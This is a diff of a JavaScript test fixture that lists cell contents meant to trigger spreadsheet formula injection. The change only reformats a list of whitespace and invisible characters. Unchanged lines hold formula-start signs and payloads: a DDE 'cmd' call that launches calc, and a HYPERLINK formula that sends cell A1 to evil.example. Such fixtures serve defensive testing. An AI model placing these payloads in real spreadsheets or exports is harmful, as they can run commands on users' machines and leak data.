@@ -1,5 +1,19 @@
 /** Cells people might type to make a spreadsheet run something, choke or guess. For tests. */
-const blanks = ["", " ", "  ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u2060", "\u202e", " \t\u200b "];
+const blanks = [
+  "",
+  " ",
+  "  ",
+  "\t",
+  "\n",
+  "\r\n",
+  "\u00a0",
+  "\u3000",
+  "\u200b",
+  "\ufeff",
+  "\u2060",
+  "\u202e",
+  " \t\u200b ",
+];
 const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫", "−"];
 const tails = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?x="&A1,"click")'];
 
